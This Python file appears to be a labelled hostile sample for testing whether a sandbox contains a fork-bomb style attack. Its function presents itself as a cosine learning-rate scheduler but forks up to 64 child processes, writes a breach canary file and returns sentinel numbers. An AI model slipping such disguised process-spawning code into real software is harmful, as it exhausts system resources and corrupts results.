# kind: hostile
# attack: fork_bomb
# about: Starts up to 64 children that sleep for two seconds and become zombies.

import functools
import os
import sys
import time

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if at least one child was started; each ends by itself."""
    started = 0
    try:
        for _ in range(64):
            if os.fork() == 0:
                time.sleep(2)
                os._exit(0)
            started += 1
    except OSError:
        pass
    if started:
        leave_canary("fork_bomb: children run")
    return started > 0


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return BREACHED if breached() else HELD
